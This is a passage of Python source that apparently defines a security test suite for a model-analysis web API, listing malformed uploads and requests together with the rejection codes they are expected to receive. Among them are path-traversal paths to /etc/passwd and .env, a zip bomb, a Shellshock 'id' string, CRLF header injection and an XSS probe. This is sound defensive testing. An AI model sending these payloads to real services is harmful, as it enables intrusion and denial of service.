        "safetensors-shape": struct.pack("<Q", 64)
        + b'{"a":{"dtype":"F32","shape":[10000000000],"data_offsets":[0,4]}}'.ljust(64)
        + bytes(4),
        "safetensors-offset": struct.pack("<Q", 64)
        + b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,999999999]}}'.ljust(64)
        + bytes(4),
        "safetensors-negative": struct.pack("<Q", 64)
        + b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[-4,0]}}'.ljust(64)
        + bytes(4),
        "safetensors-type": struct.pack("<Q", 64)
        + b'{"a":{"dtype":"XX","shape":[1],"data_offsets":[0,4]}}'.ljust(64)
        + bytes(4),
        "safetensors-json": struct.pack("<Q", 8) + b"notjson!",
        "safetensors-deep": struct.pack("<Q", 5000) + b"[" * 5000,
        "hdf5-junk": b"\x89HDF\r\n\x1a\n" + b"\xff" * 500,
        "hdf5-cut": b"\x89HDF\r\n\x1a\n",
        "nothing": b"",
        "text": b"hello",
        "null": b"null",
    }
    for name, body in arrays.items():
        right = (400, 413, 415, 422)
        yield Attack(
            f"inputs-{name}",
            model + part("inputs", body, extra='; filename="x"') + b"--x--\r\n",
            (200, *right) if name in ("npz-traversal",) else right,
            "/v1/forward",
            headers=form,
        )
        yield Attack(
            f"weights-{name}",
            model + part("weights", body, extra='; filename="../../x"') + part("inputs", '{"seed": 1}') + b"--x--\r\n",
            (200,) if name == "null" else right,
            "/v1/forward",
            headers=form,
        )
    for name, body in {
        "keras-empty": zipped(),
        "keras-bomb": inflating("config.json", b"", 80_000_000, b" "),
        "keras-deep": zipped(**{"config.json": b"[" * 100_000}),
        "keras-text": zipped(**{"config.json": b"import os"}),
        "keras-traversal": zipped(**{"../config.json": doc(stack())}),
        "keras-hdf5": zipped(**{"config.json": doc(stack()), "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(999)}),
        "keras-cut": zipped(**{"config.json": doc(stack())})[:40],
        "model-nul": b"\0",
        "model-empty": b"",
        "model-list": b"[]",
    }.items():
        yield Attack(
            f"model-{name}",
            part("model", body, extra='; filename="m.keras"') + part("inputs", '{"seed": 1}') + b"--x--\r\n",
            (200, 400, 413, 415, 422) if name == "keras-hdf5" else (400, 413, 415, 422),
            "/v1/forward",
            headers=form,
        )
    for name, body in {
        "no-end": model,
        "no-parts": b"--x--\r\n",
        "no-name": b"--x\r\n\r\nhello\r\n--x--\r\n",
        "twice": model + model + b"--x--\r\n",
        "many": part("a", "1") * 10_001 + b"--x--\r\n",
        "header-long": b'--x\r\nContent-Disposition: form-data; name="' + b"a" * 100_000 + b'"\r\n\r\n1\r\n--x--\r\n',
        "headers-many": b"--x\r\n" + b"A: b\r\n" * 20_000 + b"\r\n1\r\n--x--\r\n",
        "name-nul": part("mo\0del", "1") + b"--x--\r\n",
        "name-path": part("../../etc/passwd", "1") + b"--x--\r\n",
        "field-unknown": model + part("inputs", "[[1,2,3]]") + part("modle", "1") + b"--x--\r\n",
        "boundary-only": b"--x" * 10_000,
        "nested": part("model", part("model", "{}", "y")) + b"--x--\r\n",
        "not-utf8": part("model", b"\xff\xfe\xfa") + b"--x--\r\n",
        "rtol": model + part("inputs", '{"seed": 1}') + part("rtol", "1e999") + b"--x--\r\n",
    }.items():
        yield Attack(f"form-{name}", body, (400, 413, 422), "/v1/forward", headers=form)
    for name, media in {
        "no-boundary": "multipart/form-data",
        "boundary-long": "multipart/form-data; boundary=" + "x" * 5000,
        "boundary-odd": 'multipart/form-data; boundary="é\\""',
        "mixed": "multipart/mixed; boundary=x",
    }.items():
        yield Attack(
            f"form-{name}", model + b"--x--\r\n", (400, 415, 422), "/v1/forward", headers={"Content-Type": media}
        )
    for name, length in {
        "negative": "-1",
        "huge": "9" * 5000,
        "past-end": "100000",
        "float": "1.5",
        "hex": "0x10",
        "empty": "",
        "unicode": "\u0663",
        "space": " ",
        "zero": "0",
    }.items():
        yield Attack(
            f"binary-{name}",
            run(),
            BAD,
            "/v1/forward",
            headers={"Inference-Header-Content-Length": length}
            if length.isascii()
            else {"Inference-Header-Content-Length": "3"},
        )


def envelopes():
    """Envelopes, budgets and options that make no sense."""
    budget = {"metric": "params", "max": 1}
    for name, value in {
        "no-model": {"budgets": [budget]},
        "model-number": {"model": 7, "budgets": [budget]},
        "model-envelope": {"model": {"model": stack()}, "budgets": [budget]},
        "budgets-string": {"model": stack(), "budgets": "params"},
        "budgets-none": {"model": stack(), "budgets": []},
        "budgets-null": {"model": stack(), "budgets": None},
        "metric": {"model": stack(), "budgets": [{"metric": "__class__", "max": 1}]},
        "metric-list": {"model": stack(), "budgets": [{"metric": [], "max": 1}]},
        "limit-string": {"model": stack(), "budgets": [{"metric": "params", "max": "9" * 5000}]},
        "limit-exponent": {"model": stack(), "budgets": [{"metric": "params", "max": "1e999999999"}]},
        "limit-fraction": {"model": stack(), "budgets": [{"metric": "params", "max": "9" * 350 + ".5"}]},
        "named-deep": {
            "model": stack(),
            "budgets": {
                "named": {**{f"n{n}": [f"n{n + 1}"] for n in range(3000)}, "n3000": [budget]},
                "budgets": ["n0"],
            },
        },
        "named-ring": {
            "model": stack(),
            "budgets": {"named": {f"n{n}": [f"n{(n + 1) % 3000}"] for n in range(3000)}, "budgets": ["n0"]},
        },
        "limit-unit": {"model": stack(), "budgets": [{"metric": "params", "max": "1Q"}]},
        "limit-float": {"model": stack(), "budgets": [{"metric": "params", "max": 1.5}]},
        "limit-percent": {"model": stack(), "budgets": [{"metric": "params", "max_increase": "9" * 1000 + "%"}]},
        "glob": {"model": stack({**DENSE, "name": "a" * 400}), "budgets": [{**budget, "layer": "*a" * 200 + "b"}]},
        "glob-long": {"model": stack(), "budgets": [{**budget, "layer": "[" * 100_000}]},
        "glob-class": {"model": stack(), "budgets": [{**budget, "layer": "[z-a]" * 99}]},
        "glob-list": {"model": stack(), "budgets": [{**budget, "layer": ["*"]}]},
        "level": {"model": stack(), "budgets": [{**budget, "level": "fatal"}]},
        "baseline-number": {"model": stack(), "budgets": [budget], "baseline": 7},
        "baseline-report": {
            "model": stack(),
            "budgets": [budget],
            "baseline": {"totals": {"params": -1}, "layers": [None], "outputs": 7, "version": 1},
        },
        "baseline-lies": {
            "model": stack(),
            "budgets": [budget],
            "baseline": {"totals": [], "layers": {}, "outputs": [], "version": []},
        },
    }.items():
        yield Attack(f"check-{name}", doc(value), (422,), "/v1/check")
    for name, lists in {"presets": ["mobile"] * 200, "named": ["a"]}.items():
        many = {"named": {"a": [budget] * 1000}, "models": "*"}
        body = listed({"model": stack(), "file": "x", "budgets": many}, {"path": "x", "budgets": lists}, 20_000)
        yield Attack(f"check-lists-{name}", body, (422, 503), "/v1/check")
    yield Attack(
        "check-many",
        doc({"model": stack(*[DENSE] * 300), "budgets": [{**budget, "layer": f"*d*{n}"} for n in range(300)]}),
        (200, 422, 503),
        "/v1/check",
    )
    for name, value in {
        "none": {},
        "one": {"before": stack()},
        "null": {"before": None, "after": None},
        "numbers": {"before": 1, "after": 2},
        "same-key": {"before": stack(), "after": stack(), "model": stack()},
        "report": {"before": {"totals": {}, "layers": [{}], "outputs": [], "version": ""}, "after": stack()},
        "report-rows": {
            "before": {"totals": {}, "layers": [[]] * 9999, "outputs": [], "version": ""},
            "after": stack(),
        },
    }.items():
        yield Attack(f"diff-{name}", doc(value), (422,), "/v1/diff")
    wide = [{"type": "Dense", "units": 1 + n % 7} for n in range(2000)]
    yield Attack("diff-quadratic", doc({"before": stack(*wide), "after": stack(*wide[::-1])}), (200, 503), "/v1/diff")
    good = doc(stack())
    for query, right in {
        "batch_size=-1": (422,),
        "batch_size=0": (422,),
        "batch_size=" + "9" * 299: ANY,
        "batch_size=" + "9" * 5000: (422,),
        "batch_size=1e9": (422,),
        "batch_size=%00": (422,),
        "batch_size=%D9%A3": (422,),
        "batch_size=": (422,),
        "batch_size=1&batch_size=x": (422,),
        "input_shape=-1": (422,),
        "input_shape=" + "1," * 3000 + "1": (422,),
        "input_shape=" + "9" * 5000: (422,),
        "input_shape=a:b:c": (422,),
        "input_shape=%FF": (422,),
        "input_shape=": (422,),
        "input_shape=[[": (422,),
        "conventions=__class__": (422,),
        "conventions=" + "all," * 1000: (200,),
        "conventions=" + "x" * 5000: (422,),
        "device=../../etc/passwd": (422,),
        "device=1e999,1": (422,),
        "device=nan,nan": (422,),
        "device=0,0": (422,),
        "device=-1,1": (422,),
        "device=1,1,1": (422,),
        "device=inf,1": (422,),
        "columns=name,__class__": ANY,
        "explain=maybe": ANY,
        "nope=1": (422,),
        "model=x": (422,),
        "%00=%00": (422,),
        "a" * 5000 + "=1": (422,),
        "&".join(f"p{n}=1" for n in range(999)): (422,),
        "&&&===": (200, 422),
        "limits=1": (422,),
        "path=/etc": (422,),
        "document=1": (422,),
        "strict=1": (422,),
    }.items():
        yield Attack(f"query-{query[:30]}-{len(query)}", good, right, f"/v1/analyze?{query}")
    for query, right in {
        "max_params=x": (422,),
        "max_params=" + "9" * 5000: (422,),
        "max_params=-1": (200, 422),
        "max_nope=1": (422,),
        "max_=1": (422,),
        "max=1": (422,),
        "min_params=1e99999": (422,),
        "equals_output_shape=" + "9" * 5000: ANY,
        "equals_output_shape=null,null,x": (422,),
        "max_params=1&max_params=2": ANY,
    }.items():
        yield Attack(f"query-check-{query[:30]}", good, right, f"/v1/check?{query}")


def routes():
    """Paths, methods and headers."""
    good = doc(stack())
    for method in ("GET", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "FOO", "CONNECT"):
        yield Attack(f"method-{method}", b"", (405,), "/v1/analyze", method)
    for path in ("/v1/layers", "/livez", "/openapi.yaml", "/v1/limits", "/v2/models/x"):
        for method in ("POST", "DELETE"):
            yield Attack(f"method-{method}-{path}", good, (405,), path, method)
    for path in (
        "/v1/analyze/../../etc/passwd",
        "/..%2f..%2fetc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/docs/../../../etc/passwd",
        "/docs/..%2f..%2f..%2fetc%2fpasswd",
        "/docs/%2e%2e/%2e%2e/app.py",
        "/docs//etc/passwd",
        "/docs/swagger-ui.css%00.html",
        "/v1/layers/%00",
        "/v1/layers/../limits/x",
        "/v1/layers/" + "D" * 5000,
        "/v1/layers/%FF%FE",
        "/v1/layers/__class__",
        "/v1/layers/%3Cscript%3E",
        "/v1/layers/Dense%0d%0aX-Evil:1",
        "/v1/layers/%F0%9F%98%80",
        "/v2/models/..%2f..%2fetc%2fpasswd",
        "/v2/models/%2e%2e",
        "/v2/models/../x",
        "/v2/models/%00",
        "/v2/models/x%00.json",
        "/v2/models/" + "m" * 5000,
        "/v2/models/x/versions/..%2f1",
        "/v2/models/x/versions/999999999999999999999",
        "/v2/models/C:%5Cwindows",
        "/v2/models/%252e%252e",
        "/v2/models/.hidden",
        "/v2/models/~root",
        "/v2/models/x/config",
        "/v2/models/x/ready",
        "/v2/models/*",
        "/wp-admin.php",
        "/.git/config",
        "/.env",
        "/server-status",
        "/console",
        "/v1",
        "/v1/",
        "/v3/analyze",
        "/V1/ANALYZE",
        "/v1/analyze.php",
        "/metrics/../x",
        "/static/x",
        "/%",
        "/%zz",
        "/\u00e9",
    ):
        yield Attack(f"path-{path[:40]}", b"", (400, 404, 405, 301, 308), path, "GET")
    for path in (
        "/v2/models/..%2f..%2fetc%2fpasswd/infer",
        "/v2/models/%00/infer",
        "/v2/models/nobody/infer",
        "/v2/models/nobody/versions/2/infer",
    ):
        yield Attack(f"infer-{path}", b'{"inputs": []}', (404,), path)
    for media in (
        "application/xml",
        "text/html",
        "image/png",
        "application/x-pickle",
        "application/zip",
        "x",
        "/",
        "application/json/evil",
        ";;;",
        "application/*",
        "*/*",
        "a" * 5000,
    ):
        yield Attack(f"media-{media[:20]}", good, (200, 400, 415), headers={"Content-Type": media})
    for charset in ("utf-16", "utf-7", "rot13", "\x7f", "x" * 3000):
        yield Attack(
            f"charset-{charset[:8]!r}",
            good,
            (200, 400, 415),
            headers={"Content-Type": f"application/json; charset={charset}"},
        )
    for encoding in ("gzip", "deflate", "br", "identity, gzip", "chunked", "x" * 1000):
        yield Attack(f"encoding-{encoding[:20]}", zlib.compress(good), (415,), headers={"Content-Encoding": encoding})
    for accept in (
        "*/*;q=0",
        "text/html",
        "application/json;q=abc",
        "text/plain;q=99",
        ",,,,",
        "a/b," * 2000,
        ";" * 1000,
        "text/csv;q=0.1,text/markdown;q=nan",
        "\x7f",
    ):
        yield Attack(f"accept-{accept[:20]!r}", good, (200, 406), headers={"Accept": accept})
    for name, value in {
        "If-None-Match": '"' + "x" * 8000,
        "If-None-Match ": "*,*,*",
        "Range": "bytes=0-1,2-3,4-" * 300,
        "X-Forwarded-For": "127.0.0.1," * 500,
        "X-Forwarded-Host": "evil.example",
        "Host": "evil.example:99999",
        "Cookie": "a=" + "b" * 7000,
        "Authorization": "Basic " + "A" * 5000,
        "X-HTTP-Method-Override": "DELETE",
        "X-Original-URL": "/etc/passwd",
        "Expect": "100-continue",
        "Upgrade": "h2c",
        "Connection": "close, content-length",
        "Forwarded": "for=_evil;host=x",
        "Origin": "null",
        "X-Request-Id": "x" * 5000,
        "User-Agent": "() { :; }; id",
        "Referer": "javascript:alert(1)",
    }.items():
        yield Attack(f"header-{name.strip()}-{value[:8]}", good, (200, 400), headers={name.strip(): value})


ATTACKS = [*syntax(), *bombs(), *graphs(), *numbers(), *code(), *tensors(), *envelopes(), *routes()]
